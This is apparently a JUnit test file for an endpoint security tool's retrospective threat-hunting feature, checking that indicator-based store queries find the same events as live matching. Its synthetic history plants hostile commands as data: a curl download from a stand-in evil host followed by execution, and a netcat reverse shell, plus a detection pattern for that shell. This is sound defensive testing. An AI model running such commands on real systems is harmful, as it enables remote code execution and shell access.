package dev.kiroku.indicators.hunt;

import dev.kiroku.event.Event;
import dev.kiroku.event.FileChange;
import dev.kiroku.indicators.Datasets;
import dev.kiroku.indicators.Events;
import dev.kiroku.indicators.ImportResult;
import dev.kiroku.indicators.Indicator;
import dev.kiroku.indicators.IndicatorSource;
import dev.kiroku.indicators.SourceFormat;
import dev.kiroku.indicators.lists.PlainListReader;
import dev.kiroku.indicators.match.IndicatorHit;
import dev.kiroku.indicators.match.LiveMatcher;
import dev.kiroku.indicators.openioc.OpenIocParser;
import dev.kiroku.indicators.stix.StixBundleReader;
import dev.kiroku.store.EventQuery;
import dev.kiroku.store.bench.SyntheticEvents;
import dev.kiroku.store.lucene.LuceneEventStore;
import dev.kiroku.store.lucene.LuceneStoreOptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

class RetroHuntTest {
    private static final Instant NOW = Events.T0.plus(Duration.ofHours(2));
    private static final String SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    @TempDir
    Path dir;

    @Test
    void retroHuntFindsWhatLiveMatchingWouldHaveFound() throws Exception {
        List<Event> events = recordedHistory();
        List<Indicator> indicators = indicators();
        try (LuceneEventStore store = new LuceneEventStore(dir, InstantSource.fixed(NOW), LuceneStoreOptions.defaults())) {
            store.append(events);
            store.commit();
            RetroHunt hunt = new RetroHunt(store, InstantSource.fixed(NOW), 10_000_000);
            RetroHunt.Result result = hunt.hunt(indicators, Events.T0.minus(Duration.ofDays(1)), NOW);

            LiveMatcher live = LiveMatcher.build(indicators, InstantSource.fixed(NOW));
            Set<String> expected = new java.util.HashSet<>();
            for (Event e : events) for (IndicatorHit h : live.match(e)) expected.add(key(h));
            assertThat(result.hits().stream().map(RetroHuntTest::key).collect(Collectors.toSet())).isEqualTo(expected);
            assertThat(expected).hasSizeGreaterThanOrEqualTo(5);
            assertThat(result.eventsExamined()).isLessThan(events.size() / 2); // the queries narrowed the search
            assertThat(result.hits()).allSatisfy(h -> {
                assertThat(h.retrospective()).isTrue();
                assertThat(h.agentId()).isNotBlank();
                assertThat(h.timestamp()).isNotNull();
            });
            IndicatorHit c2 = result.hits().stream().filter(h -> h.indicator().value() != null
                    && h.indicator().value().equals("203.0.113.66")).findFirst().orElseThrow();
            assertThat(c2.processEntityId()).isEqualTo("ent-300");
            assertThat(c2.indicator().source().origin()).isEqualTo("c2.txt");
            assertThat(result.hits().stream().map(h -> h.indicator().id())).contains("seq-1", "ioc-retro");
        }
    }

    @Test
    void huntAfterImportDeliversRetrospectiveHits() throws Exception {
        try (LuceneEventStore store = new LuceneEventStore(dir, InstantSource.fixed(NOW), LuceneStoreOptions.defaults())) {
            store.append(recordedHistory());
            store.commit();
            RetroHunt hunt = new RetroHunt(store, InstantSource.fixed(NOW), 10_000_000);
            List<IndicatorHit> alerts = new CopyOnWriteArrayList<>();
            var executor = Executors.newSingleThreadExecutor();
            try {
                List<Indicator> imported = new PlainListReader().read(Path.of("c2.txt"), List.of("203.0.113.66")).indicators();
                RetroHunt.Result result = hunt.huntAfterImport(imported, Duration.ofDays(7), alerts::add, executor).get(60, TimeUnit.SECONDS);
                assertThat(alerts).hasSize(1).allMatch(IndicatorHit::retrospective);
                assertThat(result.queries()).containsExactly("(destination.ip:203.0.113.66 OR source.ip:203.0.113.66)");
            } finally {
                executor.shutdownNow();
            }
        }
    }

    @Test
    void everySharedIndicatorTranslatesToAValidStoreQuery() throws Exception {
        List<Indicator> all = new ArrayList<>();
        for (Path file : Datasets.openIocFiles()) all.addAll(new OpenIocParser().parse(file.toString(), Files.readAllBytes(file)).evaluable());
        Path sb = Datasets.signatureBaseIocs();
        for (String name : List.of("c2-iocs.txt", "filename-iocs.txt", "hash-iocs.txt")) {
            all.addAll(new PlainListReader().read(sb.resolve(name), Files.readAllLines(sb.resolve(name))).evaluable());
        }
        int narrowed = 0;
        for (Indicator i : all) {
            String q = QueryTranslator.translate(i).orElseThrow();
            if (!q.equals("*")) {
                EventQuery.parse(q, InstantSource.fixed(NOW)); // throws with a position if the text is invalid
                narrowed++;
            }
        }
        assertThat(narrowed).isGreaterThan(all.size() * 9 / 10);
    }

    /**
     * An OpenIOC file with 900 MD5s (upper case, as incident reports write them) and a "contains" on a remote IP: it
     * is hunted with a few store queries (none a full scan, each under the clause limit) and finds the exec with that
     * MD5 and the connection to that address, exactly as live matching does.
     */
    @Test
    void aLargeOpenIocFileIsHuntedInAFewNarrowQueriesByMd5AndAddress() throws Exception {
        String md5 = "079a440bee0f86d8a59ebc5c4b523a07";
        StringBuilder items = new StringBuilder();
        java.util.Random random = new java.util.Random(5);
        for (int i = 0; i < 900; i++) {
            String value = i == 450 ? md5 : String.format("%032x", new java.math.BigInteger(128, random));
            items.append("<IndicatorItem condition=\"is\"><Context search=\"FileItem/Md5sum\"/><Content type=\"md5\">")
                    .append(value.toUpperCase(java.util.Locale.ROOT)).append("</Content></IndicatorItem>\n");
        }
        items.append("<IndicatorItem condition=\"contains\"><Context search=\"PortItem/remoteIP\"/><Content type=\"IP\">203.0.113.66</Content></IndicatorItem>");
        String ioc = "<OpenIOC xmlns=\"http://openioc.org/schemas/OpenIOC_1.1\" id=\"ioc-md5\"><metadata><short_description>md5s</short_description></metadata>"
                + "<criteria><Indicator operator=\"OR\">" + items + "</Indicator></criteria></OpenIOC>";
        List<Indicator> indicators = new OpenIocParser().parse("md5s.ioc", ioc.getBytes(StandardCharsets.UTF_8)).evaluable();
        assertThat(indicators).hasSize(1);

        List<Event> events = new ArrayList<>(recordedHistory());
        dev.kiroku.event.ProcessInfo dropper = Events.process(777, "/tmp/dropper", null, "/tmp/dropper").withHashes(md5, null, null);
        events.add(new Event(events.getFirst().agentId(), 100_000, Events.T0.plusSeconds(400), "host-0", List.of(),
                new dev.kiroku.event.ProcessStart(dropper, false)));
        try (LuceneEventStore store = new LuceneEventStore(dir, InstantSource.fixed(NOW), LuceneStoreOptions.defaults())) {
            store.append(events);
            store.commit();
            RetroHunt.Result result = new RetroHunt(store, InstantSource.fixed(NOW), 10_000_000)
                    .hunt(indicators, Events.T0.minus(Duration.ofDays(1)), NOW);

            assertThat(result.queries()).hasSizeBetween(2, 5).doesNotContain("*")
                    .allSatisfy(q -> assertThat(StoreQuery.terms(q)).isLessThanOrEqualTo(RetroHunt.MAX_TERMS));
            assertThat(result.eventsExamined()).isLessThan(10);
            LiveMatcher live = LiveMatcher.build(indicators, InstantSource.fixed(NOW));
            Set<String> expected = new java.util.HashSet<>();
            for (Event e : events) for (IndicatorHit h : live.match(e)) expected.add(key(h));
            assertThat(expected).hasSize(2);
            assertThat(result.hits().stream().map(RetroHuntTest::key).collect(Collectors.toSet())).isEqualTo(expected);
            assertThat(result.hits()).anySatisfy(h -> assertThat(h.processEntityId()).isEqualTo(dropper.entityId()));
        }
    }

    /**
     * The two shared OpenIOC files that used to read every stored event: a "contains" on part of a remote address and a
     * regex on a file path with only a character class between its literals. Now no shared indicator is left open, and
     * an OpenIOC with those two terms finds the planted connection and exec after reading only a handful of events.
     */
    @Test
    void anAddressPieceAndARegexOnAPathAreHuntedNarrowlyLikeLiveMatching() throws Exception {
        List<String> open = new ArrayList<>();
        for (Path file : Datasets.openIocFiles()) {
            for (Indicator i : new OpenIocParser().parse(file.toString(), Files.readAllBytes(file)).evaluable()) {
                if ("*".equals(QueryTranslator.translate(i).orElse(null))) open.add(file.getFileName().toString());
            }
        }
        assertThat(open).as("shared OpenIOC indicators that read every event").isEmpty();

        String ioc = "<OpenIOC xmlns=\"http://openioc.org/schemas/OpenIOC_1.1\" id=\"ioc-pieces\"><metadata><short_description>pieces"
                + "</short_description></metadata><criteria><Indicator operator=\"OR\">"
                + "<IndicatorItem condition=\"contains\"><Context search=\"PortItem/remoteIP\"/><Content type=\"IP\">103.41.124.</Content></IndicatorItem>"
                + "<IndicatorItem condition=\"matches\"><Context search=\"FileItem/FilePath\"/><Content type=\"string\">really[^G]ood/Path</Content></IndicatorItem>"
                + "</Indicator></criteria></OpenIOC>";
        List<Indicator> indicators = new OpenIocParser().parse("pieces.ioc", ioc.getBytes(StandardCharsets.UTF_8)).evaluable();
        List<Event> events = new ArrayList<>(recordedHistory());
        List<Event> planted = List.of(Events.connect("103.41.124.77", 443),
                Events.connect("13.41.124.77", 443), // contains "3.41.124." but not "103.41.124."
                Events.exec(500, "/opt/really-ood/Path/run", null, "run"),
                Events.exec(501, "/opt/reallyGood/Path/run", null, "run"));
        for (int k = 0; k < planted.size(); k++) {
            Event e = planted.get(k);
            events.add(new Event(e.agentId(), 900_000 + k, Events.T0.plusSeconds(300 + k), e.hostName(), e.incomplete(), e.payload()));
        }
        try (LuceneEventStore store = new LuceneEventStore(dir, InstantSource.fixed(NOW), LuceneStoreOptions.defaults())) {
            store.append(events);
            store.commit();
            RetroHunt.Result result = new RetroHunt(store, InstantSource.fixed(NOW), 10_000_000)
                    .hunt(indicators, Events.T0.minus(Duration.ofDays(1)), NOW);
            assertThat(result.queries()).doesNotContain("*");
            assertThat(result.eventsExamined()).as(result.queries().toString()).isLessThan(20);
            LiveMatcher live = LiveMatcher.build(indicators, InstantSource.fixed(NOW));
            Set<String> expected = new java.util.HashSet<>();
            for (Event e : events) for (IndicatorHit h : live.match(e)) expected.add(key(h));
            assertThat(expected).hasSize(2);
            assertThat(result.hits().stream().map(RetroHuntTest::key).collect(Collectors.toSet())).isEqualTo(expected);
        }
    }

    private static String key(IndicatorHit h) {
        return h.indicator().id() + "@" + h.agentId() + "#" + h.event().sequence();
    }

    /** Synthetic endpoint history (the store benchmark's generator) with attacks planted in it. */
    static List<Event> recordedHistory() {
        SyntheticEvents synthetic = new SyntheticEvents(11, 3);
        List<Event> events = new ArrayList<>();
        Map<String, Long> sequences = new HashMap<>();
        for (int i = 0; i < 6000; i++) {
            int host = i % 3;
            events.add(Event.of(SyntheticEvents.agent(host), Events.T0.plusMillis(i * 500L), SyntheticEvents.hostName(host), synthetic.payload(host)));
        }
        events.add(at(Events.connect("203.0.113.66", 8443), 100));
        events.add(at(Events.exec(400, "/usr/bin/curl", null, "curl", "-s", "https://dl.evil.example/x.sh", "-o", "/tmp/.x.sh"), 200));
        events.add(at(Events.file("/tmp/.x.sh", FileChange.Action.CREATE), 201));
        events.add(at(Events.exec(401, "/tmp/.x.sh", SHA, "/tmp/.x.sh"), 202));
        events.add(at(Events.exec(402, "/usr/bin/nc", null, "nc", "-e", "/bin/sh", "198.51.100.9", "4444"), 300));
        events.sort(Comparator.comparing(Event::timestamp));
        List<Event> numbered = new ArrayList<>();
        for (Event e : events) numbered.add(e.withSequence(sequences.merge(e.agentId(), 1L, Long::sum)));
        return numbered;
    }

    private static Event at(Event e, long seconds) {
        return new Event(e.agentId(), 0, Events.T0.plusSeconds(seconds), e.hostName(), e.incomplete(), e.payload());
    }

    private static List<Indicator> indicators() throws Exception {
        List<Indicator> out = new ArrayList<>();
        out.addAll(new PlainListReader().read(Path.of("c2.txt"), List.of("203.0.113.66", "evil.example", SHA, "10.99.0.0/16")).indicators());
        out.add(StixBundleReader.fromPattern("seq-1", new IndicatorSource(SourceFormat.STIX_2_1, "t", ""),
                "([process:name = 'curl'] FOLLOWEDBY [file:name = '.x.sh']) WITHIN 10 SECONDS", List.of(), ""));
        String ioc = """
                <OpenIOC xmlns="http://openioc.org/schemas/OpenIOC_1.1" id="ioc-retro"><metadata><short_description>nc</short_description></metadata>
                <criteria><Indicator operator="AND">
                  <IndicatorItem condition="is"><Context search="processEvent/process"/><Content>nc</Content></IndicatorItem>
                  <IndicatorItem condition="contains"><Context search="processEvent/processCmdLine"/><Content>-e /bin/sh</Content></IndicatorItem>
                  <IndicatorItem condition="greater-than" negate="true"><Context search="processEvent/pid"/><Content>100000</Content></IndicatorItem>
                </Indicator></criteria></OpenIOC>""";
        ImportResult r = new OpenIocParser().parse("nc.ioc", ioc.getBytes(StandardCharsets.UTF_8));
        out.addAll(r.indicators());
        return out;
    }
}
